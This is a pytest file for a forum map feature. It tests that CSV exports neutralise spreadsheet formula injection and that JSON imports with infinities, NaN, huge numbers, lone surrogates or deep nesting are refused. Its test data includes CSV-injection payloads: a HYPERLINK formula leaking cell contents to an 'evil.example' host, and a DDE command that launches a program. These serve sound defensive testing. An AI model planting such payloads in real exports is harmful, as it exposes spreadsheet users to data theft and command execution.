"""The map's files meet hostile input: exports that a spreadsheet opens cannot start formulas,
and a JSON import with impossible numbers, deep nesting or broken text is refused clearly."""

from __future__ import annotations

import csv
import io
import json

import pytest

from forum.spreadsheet import neutralise, restore
from tests.conftest import login
from tests.plugins.learning_communities_tests.helpers import make_weaver
from tests.plugins.learning_communities_tests.test_lc_import_export import counts, upload

HEADER = "record,label,kind,type,sector,tags,from,to,direction,strength,since,source\n"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "'=already quoted",
]


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def hostile_csv() -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    for label in FORMULAS:
        writer.writerow(["element", label, "organisation", "developer", "", "", "", "", "", "", ""])
    writer.writerow(
        ["connection", "", "", "partnership", "", "", *FORMULAS[:2], "undirected", 2, "", "=1+2"]
    )
    return HEADER + out.getvalue()


def test_the_csv_export_neutralises_formulas_and_reads_back_unchanged(client):
    login(client, make_weaver("MK18", "MK19"))
    assert upload(client, "MK18", hostile_csv(), "kartta.csv").status_code == 200
    exported = client.get("/regions/MK18/map/export.csv").text
    for cell in csv_cells(exported):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'" + FORMULAS[0] in csv_cells(exported)
    original = client.get("/regions/MK18/map/export.json").get_json()
    # In a CSV an apostrophe before a formula marks it as text, as spreadsheets read it.
    stored = sorted([*FORMULAS[:4], "=already quoted"])
    assert sorted(e["label"] for e in original["elements"]) == stored
    assert upload(client, "MK19", exported, "kartta.csv").status_code == 200
    again = client.get("/regions/MK19/map/export.json").get_json()
    assert sorted(e["label"] for e in again["elements"]) == stored
    assert [c["source"] for c in again["connections"]] == ["=1+2"]


@pytest.mark.parametrize(
    "text", [*FORMULAS, "\t=1+1", "\r=1+1", "plain", "'plain", "''=x", "", "1-2"]
)
def test_neutralise_and_restore_are_inverse(text):
    cell = neutralise(text)
    assert not str(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore(str(cell)) == text


def test_numbers_and_dates_are_not_touched():
    assert neutralise(-3) == -3
    assert neutralise(None) is None


def connection_json(strength: str) -> str:
    elements = '[{"label": "A", "type": "developer"}, {"label": "B", "type": "developer"}]'
    return (
        '{"elements": ' + elements + ', "connections": [{"from": "A", "to": "B", '
        '"type": "partnership", "strength": ' + strength + "}]}"
    )


@pytest.mark.parametrize(
    "text",
    [
        connection_json("Infinity"),
        connection_json("-Infinity"),
        connection_json("NaN"),
        connection_json("1e400"),
        '{"elements": [{"label": "\\ud800", "type": "developer"}]}',
        '{"elements": ' + "[" * 50_000 + "]" * 50_000 + "}",
    ],
    ids=["infinity", "minus-infinity", "nan", "1e400", "lone-surrogate", "deep"],
)
def test_a_json_import_with_impossible_values_is_refused(client, text):
    login(client, make_weaver("MK18"))
    answer = upload(client, "MK18", text, "kartta.json")
    assert answer.status_code == 400
    assert counts() == (0, 0)


def test_a_whole_number_strength_of_any_size_is_a_row_error(client):
    login(client, make_weaver("MK18"))
    answer = upload(client, "MK18", connection_json(str(10**30)), "kartta.json")
    assert answer.status_code == 400
    assert counts() == (0, 0)
    assert json.loads(connection_json("2"))  # the same file with a good strength is valid JSON
    assert upload(client, "MK18", connection_json("2"), "kartta.json").status_code == 200
    assert counts() == (2, 1)
